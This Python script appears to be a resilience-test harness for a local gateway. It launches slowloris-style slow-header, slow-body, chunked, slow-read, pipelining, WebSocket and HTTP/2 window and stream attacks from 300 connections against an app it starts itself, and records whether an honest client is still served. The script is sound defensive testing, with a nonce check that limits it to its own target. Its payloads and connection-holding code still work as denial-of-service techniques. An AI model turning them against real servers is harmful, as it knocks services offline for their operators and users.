"""Slow and endless requests against a gate that this program starts, and what an honest client sees of it.

`attack.py FOLDER PROGRAM WORDS...` opens an app, writes FOLDER/portcullis.toml for it, starts `PROGRAM WORDS...` there and prints one
line of JSON for each attack. FOLDER holds a certificate, `shop.pem` and `shop.key`; attacks of HTTP/2 come over TLS. There is no other target: before each attack the listener must answer with the nonce of this run, which only
the app in this process knows. Every attack ends by itself.
"""

import asyncio
import json
import resource
import secrets
import socket
import ssl
import struct
import subprocess
import sys
import time
from pathlib import Path

CONNECTIONS = 300
SECONDS = 4
PATIENCE = 2
PAUSE = 0.1
ATTACKERS_PER_ADDRESS = 10
LARGE = b"x" * 3_000_000
NONCE = secrets.token_hex(16).encode()
HONEST = "127.9.0.1"

DATA, HEADERS, SETTINGS = 0, 1, 4
END_HEADERS, END_STREAM = 4, 1


def frame(kind, flags, stream, payload):
    """A frame of HTTP/2 (RFC 9113, section 4.1)."""
    return struct.pack(">I", len(payload))[1:] + struct.pack(">BBI", kind, flags, stream) + payload


def head(method, path):
    """A field section without compression (RFC 7541): method from the static table, https, path and authority as literals."""
    fields = bytes([0x82 if method == "GET" else 0x83, 0x87, 0x04, len(path)]) + path
    return fields + bytes([0x01, 8]) + b"app.test"


def streams(method, path, flags, data=None):
    """Twenty streams that begin alike."""
    numbers = range(1, 41, 2)
    begun = b"".join(frame(HEADERS, END_HEADERS | flags, n, head(method, path)) for n in numbers)
    return begun + (b"".join(frame(DATA, 0, n, data) for n in numbers) if data is not None else b"")


PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
NO_WINDOW = frame(SETTINGS, 0, 0, struct.pack(">HI", 4, 0))
OPEN = PREFACE + frame(SETTINGS, 0, 0, b"")
# As below, over HTTP/2.
ATTACKS_2 = {
    "closed windows": (PREFACE + NO_WINDOW + streams("GET", b"/", END_STREAM), b"", 1),
    "unfinished streams": (OPEN + streams("POST", b"/upload", 0, b"x" * 16), b"", 1),
    "empty frames": (OPEN + streams("POST", b"/upload", 0), frame(DATA, 0, 1, b""), 0.1),
}
HOST = b" HTTP/1.1\r\nHost: app.test\r\n"
UPLOAD = b"POST /upload" + HOST
# What is sent first, what is sent again and again, and after how many seconds; None reads the answer drop by drop.
ATTACKS = {
    "slow headers": (b"GET /" + HOST, b"X-a: b\r\n", 1),
    "slow body": (UPLOAD + b"Content-Length: 1000000\r\n\r\n", b"x", 1),
    "stopped upload": (UPLOAD + b"Content-Length: 1000000\r\n\r\n" + b"x" * 100_000, b"", 1),
    "tiny chunks": (UPLOAD + b"Transfer-Encoding: chunked\r\n\r\n", b"1\r\nx\r\n", 0.1),
    "unfinished body": (UPLOAD + b"Transfer-Encoding: chunked\r\n\r\n3\r\nabc\r\n", b"", 1),
    "slow reading": (b"GET /large" + HOST + b"\r\n", None, 1),
    "pipelined": ((b"GET /" + HOST + b"\r\n") * 50, b"", 1),
    "websockets": (
        b"GET /socket" + HOST + b"Connection: Upgrade\r\nUpgrade: websocket\r\n"
        b"Sec-WebSocket-Version: 13\r\nSec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ==\r\n\r\n",
        b"",
        1,
    ),
}
CONFIG = """
[[listen]]
address = "127.0.0.1:{listen}"

[[listen]]
address = "127.0.0.1:{tls}"
[[listen.tls.certificate]]
chain = "shop.pem"
key = "shop.key"

[[site]]

[[site.origin]]
url = "http://127.0.0.1:{origin}"

[state]
dir = "{state}"

[console]
address = "127.0.0.1:{console}"
"""


async def serve(reader, writer):
    """The app: it reads bodies to their end, and agrees to WebSockets."""
    try:
        while True:
            head = (await reader.readuntil(b"\r\n\r\n")).lower()
            if b"upgrade: websocket" in head:
                writer.write(
                    b"HTTP/1.1 101 Switching Protocols\r\nupgrade: websocket\r\n"
                    b"connection: Upgrade\r\nsec-websocket-accept: x\r\n\r\n"
                )
                await reader.read()
                return
            await read_body(reader, head)
            body = LARGE if head.startswith(b"get /large") else NONCE
            writer.write(b"HTTP/1.1 200 OK\r\ncontent-length: %d\r\n\r\n" % len(body))
            writer.write(body)
            await writer.drain()
    except (OSError, asyncio.IncompleteReadError, ValueError):
        pass
    finally:
        writer.close()


async def read_body(reader, head):
    """Reads a body of known length, or one in chunks."""
    if b"content-length:" in head:
        await reader.readexactly(int(head.split(b"content-length:")[1].split(b"\r\n")[0]))
    while b"chunked" in head:
        length = int(await reader.readline(), 16)
        await reader.readexactly(length + 2)
        if length == 0:
            return


async def is_served(listen):
    """Whether an honest client with a connection of its own gets this run's nonce in time."""

    async def ask():
        reader, writer = await asyncio.open_connection("127.0.0.1", listen, local_addr=(HONEST, 0))
        try:
            writer.write(b"GET /" + HOST + b"Connection: close\r\n\r\n")
            return NONCE in await reader.read()
        finally:
            writer.close()

    try:
        return await asyncio.wait_for(ask(), PATIENCE)
    except (OSError, asyncio.TimeoutError):
        return False


async def becomes_served(listen):
    """Whether an honest client is served within ten seconds."""
    for _ in range(100):
        if await is_served(listen):
            return True
        await asyncio.sleep(PAUSE)
    return False


async def attacker(number, target, attack, until):
    """One connection after the other, until the time is over."""
    source = f"127.0.{10 + number // ATTACKERS_PER_ADDRESS}.{1 + number % ATTACKERS_PER_ADDRESS}"
    while time.monotonic() < until:
        try:
            await hold(source, target, attack, until)
        except (OSError, asyncio.TimeoutError):
            pass
        await asyncio.sleep(0.4)


async def hold(source, target, attack, until):
    """Holds one connection as long as it is let."""
    (port, security), (first, again, pause) = target, attack
    plain = socket.socket()
    plain.setblocking(False)
    if again is None:
        plain.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 4096)
    plain.bind((source, 0))
    await asyncio.get_running_loop().sock_connect(plain, ("127.0.0.1", port))
    name = security and "app.test"
    reader, writer = await asyncio.open_connection(sock=plain, limit=256, ssl=security, server_hostname=name)
    try:
        writer.write(first)
        while time.monotonic() < until and not reader.at_eof() and not writer.is_closing():
            await asyncio.sleep(pause)
            if again is None:
                await asyncio.wait_for(reader.read(100), PATIENCE)
            elif again:
                writer.write(again)
                await asyncio.wait_for(writer.drain(), PATIENCE)
    finally:
        writer.close()


def trusting():
    """The client's side of TLS: whoever answers there was started by this program."""
    context = ssl.create_default_context()
    context.check_hostname, context.verify_mode = False, ssl.CERT_NONE
    context.set_alpn_protocols(["h2"])
    return context


async def measure(name, listen, tls):
    """One attack, and what an honest client saw meanwhile and after it."""
    if not await becomes_served(listen):
        raise SystemExit("the listener does not lead to this run's app")
    until = time.monotonic() + SECONDS
    attack, target = (ATTACKS.get(name), (listen, None))
    if attack is None:
        attack, target = ATTACKS_2[name], (tls, trusting())
    attackers = [asyncio.create_task(attacker(n, target, attack, until)) for n in range(CONNECTIONS)]
    served = []
    while time.monotonic() < until:
        served.append(await is_served(listen))
        await asyncio.sleep(PAUSE)
    for task in (await asyncio.wait(attackers, timeout=2 * PATIENCE))[1]:
        task.cancel()
    recovered = await becomes_served(listen)
    return {"attack": name, "asked": len(served), "served": sum(served), "recovered": recovered}


def free_port():
    """A port that nobody listens on."""
    with socket.socket() as probe:
        probe.bind(("127.0.0.1", 0))
        return probe.getsockname()[1]


async def main(folder, command):
    """All attacks, each against a new gate."""
    hard = resource.getrlimit(resource.RLIMIT_NOFILE)[1]
    resource.setrlimit(resource.RLIMIT_NOFILE, (hard, hard))
    app = await asyncio.start_server(serve, "127.0.0.1", 0, backlog=1024)
    origin = app.sockets[0].getsockname()[1]
    for number, name in enumerate([*ATTACKS, *ATTACKS_2]):
        listen, tls, state = free_port(), free_port(), folder / str(number)
        text = CONFIG.format(listen=listen, tls=tls, origin=origin, state=state, console=free_port())
        (folder / "portcullis.toml").write_text(text)
        with open(folder / "log", "ab") as log:
            gate = subprocess.Popen(command, cwd=folder, stdout=log, stderr=log)
        try:
            print(json.dumps(await measure(name, listen, tls)), flush=True)
        finally:
            gate.terminate()
            gate.wait()


asyncio.run(main(Path(sys.argv[1]), sys.argv[2:]))
